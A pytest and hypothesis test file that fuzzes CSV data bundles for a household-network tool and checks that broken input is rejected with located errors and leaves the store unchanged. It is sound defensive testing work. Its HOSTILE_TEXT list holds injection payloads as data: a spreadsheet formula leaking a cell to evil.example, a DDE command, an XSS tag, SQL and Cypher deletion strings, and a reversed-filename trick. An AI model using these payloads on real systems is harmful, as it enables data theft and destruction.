"""Broken and hostile bundles: each gets located errors and changes nothing — no crash.

A valid bundle (the seed's example household) is written as CSV, then broken by a random
list of mutations (wrong encodings, missing columns and files, formula-like and huge cells,
unknown and duplicate ids, reversed ties, truncated rows, random text in any cell). Loading
it into a store that already holds data must either succeed (a harmless mutation) or raise
:class:`BundleError` whose every problem is located as ``file:row:column: message`` — and the
store must be exactly as it was.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import shutil
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from netsupport.bundle import read_bundle, write_bundle
from netsupport.errors import BundleError
from netsupport.example import seed_example
from netsupport.storage.sqlite_store import SQLiteStore

FILES = ["agencies.csv", "households.csv", "people.csv", "ties.csv", "events.csv"]
LOCATED = re.compile(r"^(agencies|households|people|ties|events)(\.csv)?:\d*:[a-z_]*: \S")
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)", "<img src=x onerror=alert(1)>", "'; DROP TABLE ties; --",
    "MATCH (n) DETACH DELETE n", "\u202etxt.exe", "x" * 40_000, "本人\x00", "",
]


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _write(path: Path, rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8-sig")


mutation = st.one_of(
    st.tuples(st.just("encoding"), st.sampled_from(FILES),
              st.sampled_from(["utf-16-le", "latin-1-garbage", "random-bytes"])),
    st.tuples(st.just("drop_column"), st.sampled_from(FILES), st.integers(0, 8)),
    st.tuples(st.just("drop_file"), st.sampled_from(FILES)),
    st.tuples(st.just("cell"), st.sampled_from(FILES), st.integers(1, 30), st.integers(0, 8),
              st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=30))),
    st.tuples(st.just("duplicate_row"), st.sampled_from(FILES), st.integers(1, 30)),
    st.tuples(st.just("reverse_ties"), st.integers(1, 30)),
    st.tuples(st.just("truncate"), st.sampled_from(FILES), st.integers(1, 400)),
    st.tuples(st.just("empty"), st.sampled_from(FILES)),
)


def _apply(folder: Path, m: tuple) -> None:
    # An earlier mutation may have made the file unreadable as text: then leave it so.
    with contextlib.suppress(UnicodeDecodeError, IndexError):
        _mutate(folder, m)


def _mutate(folder: Path, m: tuple) -> None:
    kind, *args = m
    path = folder / args[0] if isinstance(args[0], str) else folder / "ties.csv"
    if not path.exists():
        return
    if kind == "encoding":
        text = path.read_text(encoding="utf-8-sig")
        if args[1] == "utf-16-le":
            path.write_bytes(text.encode("utf-16-le"))
        elif args[1] == "latin-1-garbage":
            path.write_bytes(text.encode("utf-8") + b"\xc3\x9c\x81\xfe")
        else:
            path.write_bytes(bytes(range(256)) * 3)
    elif kind == "drop_column":
        rows = _rows(path)
        col = args[1] % max(1, len(rows[0]))
        _write(path, [r[:col] + r[col + 1:] for r in rows])
    elif kind == "drop_file":
        path.unlink()
    elif kind == "cell":
        rows = _rows(path)
        if len(rows) > 1:
            r = args[1] % (len(rows) - 1) + 1
            if rows[r]:
                rows[r][args[2] % len(rows[r])] = args[3]
                _write(path, rows)
    elif kind == "duplicate_row":
        rows = _rows(path)
        if len(rows) > 1:
            rows.append(rows[args[1] % (len(rows) - 1) + 1])
            _write(path, rows)
    elif kind == "reverse_ties":
        rows = _rows(path)
        if len(rows) > 1:
            r = args[0] % (len(rows) - 1) + 1
            rows.append([rows[r][1], rows[r][0], *rows[r][2:]])
            _write(path, rows)
    elif kind == "truncate":
        data = path.read_bytes()
        path.write_bytes(data[: max(0, len(data) - args[1])])
    elif kind == "empty":
        path.write_bytes(b"")


GOOD = seed_example()
stats = {"bundles": 0, "rejected": 0, "loaded": 0}


@pytest.fixture(scope="module")
def good_store(tmp_path_factory):
    """One store holding the good bundle, for every example, and its export: a rejected
    bundle must leave it so, and a loaded one is replaced by the good bundle again before
    the next example (a new SQLite file per example was half of this test's time)."""
    with SQLiteStore(tmp_path_factory.mktemp("hostile") / "store.db") as store:
        store.load(GOOD)
        yield store, store.export().sorted()


@settings(max_examples=1000, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(mutations=st.lists(mutation, min_size=1, max_size=4))
def test_broken_bundles_are_located_and_change_nothing(good_store, mutations):
    store, before = good_store
    assert store.export().sorted() == before  # as every example before this one left it
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "bundle"
        write_bundle(GOOD, folder)
        for m in mutations:
            _apply(folder, m)
        stats["bundles"] += 1
        try:
            bundle = read_bundle(folder)
            store.load(bundle, replace=True)
            stats["loaded"] += 1
            assert store.export().sorted() == bundle.sorted()
            store.load(GOOD, replace=True)  # the good data again, for the next example
        except BundleError as err:
            stats["rejected"] += 1
            errors = [p for p in err.problems if not p.warning]
            assert errors, "a BundleError names at least one error"
            for problem in errors:
                assert LOCATED.match(str(problem)), str(problem)
            assert store.export().sorted() == before


def test_formula_cells_load_as_text_and_leave_neutralised(tmp_path):
    bundle = seed_example()
    first = bundle.people[0]
    from dataclasses import replace

    bundle.people[0] = replace(first, display_name=HOSTILE_TEXT[0])
    write_bundle(bundle, tmp_path / "out")
    raw = (tmp_path / "out" / "people.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw
    assert read_bundle(tmp_path / "out").people[0].display_name == HOSTILE_TEXT[0]
    write_bundle(bundle, tmp_path / "out.xlsx")
    assert read_bundle(tmp_path / "out.xlsx").people[0].display_name == HOSTILE_TEXT[0]
    shutil.rmtree(tmp_path / "out")
